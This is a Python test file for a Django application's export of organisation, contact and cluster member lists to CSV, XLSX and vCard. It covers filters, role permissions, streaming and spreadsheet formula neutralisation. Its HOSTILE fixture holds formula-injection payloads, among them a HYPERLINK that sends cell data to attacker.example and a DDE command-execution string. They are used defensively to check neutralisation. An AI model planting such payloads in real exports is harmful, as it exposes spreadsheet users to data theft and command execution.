"""Exporting the organisation, contact and cluster member lists (CSV, XLSX, vCard).

What a user relies on: the file holds exactly what the list shows with its current filters
and for their role; a spreadsheet never runs a formula hidden in a record; large lists are
streamed with a fixed number of queries per chunk of rows; the vCards follow RFC 6350 so
any address book reads them back unchanged.
"""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from pytest_django.asserts import assertContains

from clusterdesk.core import exports
from clusterdesk.organisations import services
from clusterdesk.organisations.models import NaceActivity
from clusterdesk.organisations.tests.factories import (
    ContactFactory,
    MembershipFactory,
    OrganisationFactory,
)

pytestmark = pytest.mark.django_db

HOSTILE = {
    "legal_name": '=HYPERLINK("http://attacker.example/?d="&A2,"Open")',
    "trade_name": "+SUM(1,2)",
    "street": "-2+3+cmd|' /C calc'!A0",
    "description": "@SUM(A1:A9)",
    "website": "",
}


def export_url(name: str, fmt: str, **params: str) -> str:
    url = reverse(f"organisations:{name}", kwargs={"fmt": fmt})
    query = "&".join(f"{key}={value}" for key, value in params.items())
    return f"{url}?{query}" if query else url


def content(response: Any) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content)


def csv_rows(response: Any) -> list[list[str]]:
    payload = content(response)
    assert payload.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark first"
    return list(csv.reader(io.StringIO(payload.decode("utf-8-sig"), newline="")))


def xlsx_sheet(response: Any) -> Any:
    workbook = openpyxl.load_workbook(io.BytesIO(content(response)))
    return workbook.worksheets[0]


def column(rows: list[list[Any]], header: str) -> list[Any]:
    index = list(rows[0]).index(header)
    return [row[index] for row in rows[1:]]


@pytest.fixture
def directory(organisation_a: Any, organisation_b: Any, cluster_a: Any) -> dict[str, Any]:
    """organisation_a (AutoMobility) and organisation_b (HealthTech), plus a former
    AutoMobility member that no current-member filter shows."""
    former = OrganisationFactory(legal_name="Zolwer Castings S.A.")
    MembershipFactory(
        organisation=former,
        cluster=cluster_a,
        since=datetime.date(2010, 1, 1),
        until=datetime.date(2012, 1, 1),
    )
    return {"a": organisation_a, "b": organisation_b, "former": former}


# --- organisations ---------------------------------------------------------------------------


def test_the_csv_export_carries_the_lists_filters_and_sort(client_for, directory):
    client = client_for("manager_a")

    filtered = csv_rows(client.get(export_url("export", "csv", cluster="automobility")))
    everything = csv_rows(client.get(export_url("export", "csv", sort="-name")))

    assert column(filtered, "Legal name") == ["Moselle Brake Technologies S.A."]
    assert column(filtered, "Clusters") == ["AutoMobility"]
    assert column(everything, "Legal name") == [
        "Zolwer Castings S.A.",
        "Moselle Brake Technologies S.A.",
        "Alzette Diagnostics S.à r.l.",
    ]


def test_a_manager_exports_what_their_list_shows(client_for, directory):
    client = client_for("manager_a")

    listed = client.get(reverse("organisations:list"), {"q": "S."}).context["page"].object_list
    exported = csv_rows(client.get(export_url("export", "csv", q="S.")))

    assert column(exported, "Legal name") == [o.legal_name for o in listed]
    assert len(listed) == 3  # other clusters' organisations too, as the list shows them


def test_the_export_names_the_file_with_the_date(client_for, directory):
    response = client_for("expert").get(export_url("export", "csv"))

    today = timezone.localdate().isoformat()
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="organisations-{today}.csv"'
    assert response.streaming


def test_headers_and_labels_follow_the_interface_language(client_for, directory):
    client = client_for("expert")

    in_french = csv_rows(client.get(export_url("export", "csv"), HTTP_ACCEPT_LANGUAGE="fr"))
    in_english = csv_rows(client.get(export_url("export", "csv")))

    assert "Dénomination officielle" in in_french[0]
    assert set(column(in_french, "Type")) == {"Entreprise"}
    assert set(column(in_english, "Kind")) == {"Company"}


def test_the_xlsx_export_holds_the_same_rows_with_numbers_as_numbers(client_for, directory):
    services.organisation_update(
        actor=None,
        organisation=directory["a"],
        data={"turnover": 1_500_000, "nace_activities": NaceActivity.objects.filter(code="29.32")},
        expected_version=None,
        confirm_distinct=True,
    )

    response = client_for("manager_a").get(export_url("export", "xlsx", cluster="automobility"))

    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="organisations-{today}.xlsx"'
    rows = [list(row) for row in xlsx_sheet(response).iter_rows(values_only=True)]
    assert column(rows, "Legal name") == ["Moselle Brake Technologies S.A."]
    assert column(rows, "Annual turnover (EUR)") == [1_500_000]
    assert column(rows, "NACE codes") == ["29.32"]
    assert column(rows, "Headcount") == [25]


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client_for, cluster_a):
    hostile = OrganisationFactory(**HOSTILE)
    MembershipFactory(organisation=hostile, cluster=cluster_a)
    client = client_for("admin")

    in_csv = csv_rows(client.get(export_url("export", "csv")))[1]
    sheet = xlsx_sheet(client.get(export_url("export", "xlsx")))

    for value in HOSTILE.values():
        if value:
            assert f"'{value}" in in_csv
    cells = [
        cell
        for cell in sheet[2]
        if isinstance(cell.value, str) and cell.value[1:] in HOSTILE.values()
    ]
    assert len(cells) == 4
    for cell in cells:
        assert cell.data_type == "s"  # text, not a formula
        assert cell.value.startswith("'")


def test_tab_and_carriage_return_at_the_start_of_a_cell_are_neutralised_too():
    assert exports.neutralise("\t=1+1") == "'\t=1+1"
    assert exports.neutralise("\r=1+1") == "'\r=1+1"
    assert exports.neutralise("Luxembourg") == "Luxembourg"
    assert exports.csv_cell(-5) == "-5"  # a number is not text a spreadsheet could run


def test_roles_without_the_list_may_not_export_it(client_for, directory):
    analyst = client_for("analyst")

    assert analyst.get(export_url("export", "csv")).status_code == 403
    assert analyst.get(export_url("export", "xlsx")).status_code == 403
    assert analyst.get(export_url("contact-export", "csv")).status_code == 403
    assert analyst.get(export_url("contact-export", "vcf")).status_code == 403
    anonymous = client_for(None).get(export_url("export", "csv"))
    assert anonymous.status_code == 302


def test_an_unknown_format_is_not_found(client_for, directory):
    assert client_for("admin").get(export_url("export", "pdf")).status_code == 404


def test_the_export_runs_the_same_queries_for_3_rows_as_for_30(client_for, cluster_a, cluster_b):
    client = client_for("admin")

    def queries_for_export() -> int:
        with CaptureQueriesContext(connection) as queries:
            content(client.get(export_url("export", "csv")))
        return len(queries)

    def add_organisations(count: int) -> None:
        for number in range(count):
            organisation = OrganisationFactory(tags=[f"tag {number}"])
            MembershipFactory(organisation=organisation, cluster=cluster_a)
            MembershipFactory(organisation=organisation, cluster=cluster_b)

    add_organisations(3)
    few = queries_for_export()
    add_organisations(27)
    many = queries_for_export()

    assert many == few


def test_rows_are_read_in_chunks_and_the_file_is_streamed_in_pieces(
    client_for, cluster_a, monkeypatch
):
    for _number in range(7):
        MembershipFactory(organisation=OrganisationFactory(), cluster=cluster_a)
    monkeypatch.setattr(exports, "CHUNK_SIZE", 3)
    monkeypatch.setattr(exports, "CSV_BUFFER", 200)

    response = client_for("admin").get(export_url("export", "csv"))
    pieces = list(response.streaming_content)

    assert len(pieces) > 2
    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig"))))
    assert column(rows, "Clusters") == ["AutoMobility"] * 7  # prefetched for every chunk


def test_the_export_buttons_carry_the_current_filters(client_for, directory):
    client = client_for("expert")
    url = export_url("export", "csv", cluster="automobility", sort="name")
    expected = f'href="{url.replace("&", "&amp;")}"'  # without the page number

    page = client.get(reverse("organisations:list"), {"cluster": "automobility", "sort": "name"})
    partial = client.get(
        reverse("organisations:list"),
        {"cluster": "automobility", "sort": "name", "page": "1"},
        HTTP_HX_REQUEST="true",
        HTTP_HX_TARGET="results",
    )

    assertContains(page, expected)
    assertContains(partial, expected)  # re-rendered with the results as the filters change


# --- contacts --------------------------------------------------------------------------------


def test_contacts_export_with_their_filters(client_for, contact_a, contact_b):
    ContactFactory(first_name="Lena", last_name="Thill", preferred_language="de")

    rows = csv_rows(
        client_for("manager_b").get(export_url("contact-export", "csv", cluster="healthtech"))
    )
    sheet = xlsx_sheet(client_for("manager_b").get(export_url("contact-export", "xlsx", q="Thill")))

    assert column(rows, "Last name") == ["Weber"]
    assert column(rows, "Organisations") == ["Alzette Diagnostics S.à r.l."]
    assert column(rows, "Role at the main organisation") == ["CTO"]
    assert [row[1] for row in sheet.iter_rows(values_only=True)] == ["Last name", "Thill"]


def test_a_phone_number_starting_with_a_plus_is_kept_as_text(client_for, organisation_a):
    ContactFactory(first_name="Tom", last_name="Faber", phone="+352 621 123 456")

    rows = csv_rows(client_for("admin").get(export_url("contact-export", "csv")))

    assert column(rows, "Phone") == ["'+352 621 123 456"]


# --- cluster members -------------------------------------------------------------------------


def test_a_clusters_current_members_export(client_for, directory):
    url = reverse("organisations:cluster-export", kwargs={"slug": "automobility", "fmt": "csv"})

    response = client_for("expert").get(url)
    rows = csv_rows(response)

    today = timezone.localdate().isoformat()
    assert f"cluster-members-automobility-{today}.csv" in response["Content-Disposition"]
    assert column(rows, "Legal name") == ["Moselle Brake Technologies S.A."]
    assert column(rows, "Membership type") == ["Member"]
    assert client_for("analyst").get(url).status_code == 404
    missing = reverse("organisations:cluster-export", kwargs={"slug": "nowhere", "fmt": "csv"})
    assert client_for("admin").get(missing).status_code == 404


def test_the_cluster_page_offers_its_member_export(client_for, cluster_a):
    response = client_for("expert").get(
        reverse("organisations:cluster-detail", args=["automobility"])
    )

    assertContains(response, "/clusters/automobility/members/export.xlsx")
